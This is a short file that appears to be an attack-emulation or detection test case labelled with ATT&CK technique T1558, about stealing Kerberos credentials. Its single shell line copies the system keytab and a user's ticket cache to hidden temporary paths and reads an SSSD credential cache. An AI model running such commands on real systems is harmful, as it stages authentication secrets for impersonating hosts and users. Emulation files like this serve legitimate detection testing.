# title: Kerberos's keys and tickets are copied
# technique: T1558 T1558.005

cp /etc/krb5.keytab /tmp/.kt; cp /tmp/krb5cc_1000 /dev/shm/cc; cat /var/lib/sss/db/cache_example.ldb >/dev/null
